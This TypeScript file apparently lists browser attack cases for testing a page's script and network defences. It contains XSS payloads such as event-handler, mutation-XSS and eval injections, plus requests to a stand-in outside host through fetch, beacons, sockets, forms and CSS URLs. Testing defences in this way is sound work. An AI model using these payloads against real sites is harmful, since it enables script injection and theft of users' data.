/**
 * What somebody would try who had got markup or script into a page. Each attack leaves a mark when it works: MARK is
 * replaced by code that tells the page, AWAY by an address outside; a request for it is a mark as well.
 */
export type Attack = {
  readonly name: string;
  /** `markup` stands in the document as it is loaded; `script` is run as if a foreign script had got in. */
  readonly kind: 'markup' | 'script';
  readonly code: string;
};

const markup = (name: string, code: string): Attack => ({ name, kind: 'markup', code });
const script = (name: string, code: string): Attack => ({ name, kind: 'script', code });

const element = (tag: string, set: string): string =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e);`;

const MARKUP: readonly Attack[] = [
  markup('inline script', '<script>MARK</script>'),
  markup('inline module', '<script type="module">MARK</script>'),
  markup('script from away', '<script src="AWAY.js"></script>'),
  markup('script from data:', '<script src="data:text/javascript,MARK"></script>'),
  markup('script with a guessed nonce', '<script nonce="abc">MARK</script>'),
  markup(
    'import map',
    '<script type="importmap">{"imports":{"x":"AWAY.js"}}</script><script type="module">import "x"</script>',
  ),
  markup(
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["AWAY"]}]}</script>',
  ),
  ...[
    ['img onerror', '<img src="x:" onerror="MARK">'],
    ['svg onload', '<svg onload="MARK"></svg>'],
    ['body onload', '<body onload="MARK">'],
    ['details ontoggle', '<details open ontoggle="MARK"><summary>x</summary></details>'],
    ['autofocus onfocus', '<input autofocus onfocus="MARK">'],
    ['animation handler', '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="MARK">x</b>'],
    ['video onerror', '<video><source onerror="MARK" src="x:"></video>'],
    ['audio onerror', '<audio src="x:" onerror="MARK"></audio>'],
    ['object onerror', '<object data="x:" onerror="MARK"></object>'],
    ['iframe onload', '<iframe onload="MARK"></iframe>'],
    ['popover handler', '<div popover id="po" onbeforetoggle="MARK">x</div><script>po.showPopover()</script>'],
    ['svg animate onbegin', '<svg><animate onbegin="MARK" attributeName="x" dur="1s"></animate></svg>'],
    ['svg set onbegin', '<svg><set onbegin="MARK" attributeName="x" to="1"></set></svg>'],
    ['svg script', '<svg><script>MARK</script></svg>'],
    ['svg script href', '<svg><script href="data:text/javascript,MARK"></script></svg>'],
    ['style onload', '<style onload="MARK">b{}</style>'],
    ['link onload', '<link rel="stylesheet" href="data:text/css,b{}" onload="MARK">'],
    ['marquee onstart', '<marquee onstart="MARK">x</marquee>'],
    ['broken markup', '"><script>MARK</script>'],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x: onerror=MARK>"></noscript>'],
    [
      'math mutation',
      '<math><mtext><table><mglyph><style><img src=x: onerror=MARK></style></mglyph></table></mtext></math>',
    ],
    ['template script', '<template shadowrootmode="open"><img src="x:" onerror="MARK"></template>'],
  ].map(([name, code]) => markup(name!, code!.replace('MARK">', 'MARK">'))),
  ...[
    ['frame from javascript:', '<iframe src="javascript:MARK"></iframe>'],
    ['frame from srcdoc', '<iframe srcdoc="<script>MARK</script>"></iframe>'],
    ['frame from data:', '<iframe src="data:text/html,<script>MARK</script>"></iframe>'],
    ['frame from away', '<iframe src="AWAY"></iframe>'],
    ['object from data:', '<object data="data:text/html,<script>MARK</script>"></object>'],
    ['embed from data:', '<embed src="data:text/html,<script>MARK</script>" type="text/html">'],
    ['object from away', '<object data="AWAY"></object>'],
    ['embed from away', '<embed src="AWAY">'],
    ['base', '<base href="AWAY/"><img src="b.png">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=AWAY">'],
    ['meta refresh to data:', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>MARK</script>">'],
    ['picture from away', '<img src="AWAY.png">'],
    ['picture set from away', '<picture><source srcset="AWAY.png"><img></picture>'],
    ['style sheet from away', '<link rel="stylesheet" href="AWAY.css">'],
    ['imported style', '<style>@import "AWAY.css";</style>'],
    ['background from away', '<b style="background:url(AWAY.png)">x</b>'],
    ['background of a style', '<style>body{background-image:url(AWAY.png)}</style>'],
    ['attribute reader in style', '<input value="4"><style>input[value^="4"]{background:url(AWAY.png)}</style>'],
    ['font from away', '<style>@font-face{font-family:f;src:url(AWAY.woff2)}b{font-family:f}</style><b>x</b>'],
    ['icon from away', '<link rel="icon" href="AWAY.ico">'],
    ['prefetch', '<link rel="prefetch" href="AWAY.js">'],
    ['preload', '<link rel="preload" as="script" href="AWAY.js">'],
    ['module preload', '<link rel="modulepreload" href="AWAY.js">'],
    ['manifest', '<link rel="manifest" href="AWAY.json">'],
    ['video from away', '<video src="AWAY.mp4" autoplay></video>'],
    ['poster from away', '<video poster="AWAY.png"></video>'],
    ['track from away', '<video><track default src="AWAY.vtt"></video>'],
    ['svg image from away', '<svg><image href="AWAY.png" width="9" height="9"></image></svg>'],
    ['svg use from away', '<svg><use href="AWAY.svg#a"></use></svg>'],
    [
      'svg filter from away',
      '<svg><filter id="f"><feImage href="AWAY.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    ],
    ['image button', '<input type="image" src="AWAY.png">'],
    ['old background', '<table background="AWAY.png"><tr><td>x</td></tr></table>'],
  ].map(([name, code]) => markup(name!, code!)),
];

const SCRIPT: readonly Attack[] = [
  ...[
    ['eval', 'eval(`MARK`)'],
    ['function constructor', 'Function(`MARK`)()'],
    ['timer with text', 'setTimeout(`MARK`, 0)'],
    ['inline script element', element('script', 'e.textContent = `MARK`')],
    ['script element from away', element('script', 'e.src = `AWAY.js`')],
    ['script element from data:', element('script', 'e.src = `data:text/javascript,MARK`')],
    ['script element from blob:', element('script', 'e.src = URL.createObjectURL(new Blob([`MARK`]))')],
    ['import from data:', 'await import(`data:text/javascript,MARK`)'],
    ['import from blob:', 'await import(URL.createObjectURL(new Blob([`MARK`], { type: "text/javascript" })))'],
    ['import from away', 'await import(`AWAY.js`)'],
    ['markup by innerHTML', element('div', 'e.innerHTML = `<img src=x: onerror="MARK">`')],
    ['markup by insertAdjacentHTML', 'document.body.insertAdjacentHTML("beforeend", `<img src=x: onerror="MARK">`)'],
    ['markup by document.write', 'document.write(`<script>MARK</` + `script>`)'],
    [
      'markup by a parser',
      'document.body.append(new DOMParser().parseFromString(`<img src=x: onerror="MARK">`, "text/html").body.firstChild)',
    ],
    [
      'markup by a range',
      'document.body.append(document.createRange().createContextualFragment(`<script>MARK</` + `script>`))',
    ],
    [
      'markup by setHTMLUnsafe',
      'document.body.appendChild(document.createElement("div")).setHTMLUnsafe(`<img src=x: onerror="MARK">`)',
    ],
    ['handler by attribute', element('img', 'e.setAttribute("onerror", `MARK`); e.src = "x:"')],
    [
      'own policy of trusted types',
      'const p = (self.trustedTypes ?? { createPolicy: (n, r) => r }).createPolicy("evil", { createHTML: t => t }); ' +
        element('div', 'e.innerHTML = p.createHTML(`<img src=x: onerror="MARK">`)'),
    ],
    ['link to javascript:', element('a', 'e.href = `javascript:MARK`; e.click()')],
    ['frame from javascript:', element('iframe', 'e.src = `javascript:MARK`')],
    ['frame from srcdoc', element('iframe', 'e.srcdoc = `<script>MARK</` + `script>`')],
    [
      'frame from blob:',
      element('iframe', 'e.src = URL.createObjectURL(new Blob([`<script>MARK</` + `script>`], { type: "text/html" }))'),
    ],
    ['frame of its own to write to', element('iframe', '0') + ' e.contentDocument.write(`<script>MARK</` + `script>`)'],
    [
      'worker from blob:',
      'new Worker(URL.createObjectURL(new Blob([`postMessage(1)`]))).onmessage = () => { MARK }; await new Promise(r => setTimeout(r, 150))',
    ],
    [
      'worker from data:',
      'new Worker(`data:text/javascript,postMessage(1)`).onmessage = () => { MARK }; await new Promise(r => setTimeout(r, 150))',
    ],
    [
      'shared worker',
      'new SharedWorker(`data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)`).port.onmessage = () => { MARK }; await new Promise(r => setTimeout(r, 150))',
    ],
    ['web assembly', 'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); MARK'],
  ].map(([name, code]) => script(name!, code!)),
  ...[
    ['fetch', 'await fetch(`AWAY`, { mode: "no-cors" })'],
    [
      'fetch that outlives the page',
      'await fetch(`AWAY`, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
    ],
    ['request', 'const r = new XMLHttpRequest(); r.open("GET", `AWAY`); r.send()'],
    ['beacon', 'navigator.sendBeacon(`AWAY`, "x")'],
    ['event source', 'new EventSource(`AWAY`)'],
    ['web socket', 'new WebSocket(`AWAY`.replace("https", "wss"))'],
    ['picture', 'new Image().src = `AWAY.png`'],
    ['font face', 'await new FontFace("f", `url(AWAY.woff2)`).load()'],
    [
      'adopted style',
      'const s = new CSSStyleSheet(); s.replaceSync(`body{background-image:url(AWAY.png)}`); document.adoptedStyleSheets = [s]',
    ],
    ['style of an element', 'document.body.style.backgroundImage = `url(AWAY.png)`'],
    ['audio', 'await new Audio(`AWAY.mp3`).play()'],
    ['link ping', element('a', 'e.href = "#x"; e.ping = `AWAY`; e.click()')],
    ['form', element('form', 'e.action = `AWAY`; e.method = "post"') + ' e.submit()'],
    [
      'form by a button',
      element('form', 'const b = document.createElement("button"); b.formAction = `AWAY`; e.append(b)') +
        ' e.requestSubmit(b)',
    ],
    ['navigation', 'location.href = `AWAY`'],
    ['navigation to data:', 'location.href = `data:text/html,<script>MARK</` + `script>`'],
    ['navigation of the top', 'top.location.href = `AWAY`'],
    ['link that leads away', element('a', 'e.href = `AWAY`; e.click()')],
    ['new window', 'open(`AWAY`)'],
    ['new window by a link', element('a', 'e.href = `AWAY`; e.target = "_blank"; e.click()')],
    ['download', element('a', 'e.href = `AWAY`; e.download = "x"; e.click()')],
    ['service worker', 'if ((await navigator.serviceWorker.register(`/sw.js`)).scope) { MARK }'],
    [
      'peer connection',
      'const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:STUN` }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 400))',
    ],
  ].map(([name, code]) => script(name!, code!)),
];

export const ATTACKS: readonly Attack[] = [...MARKUP, ...SCRIPT];
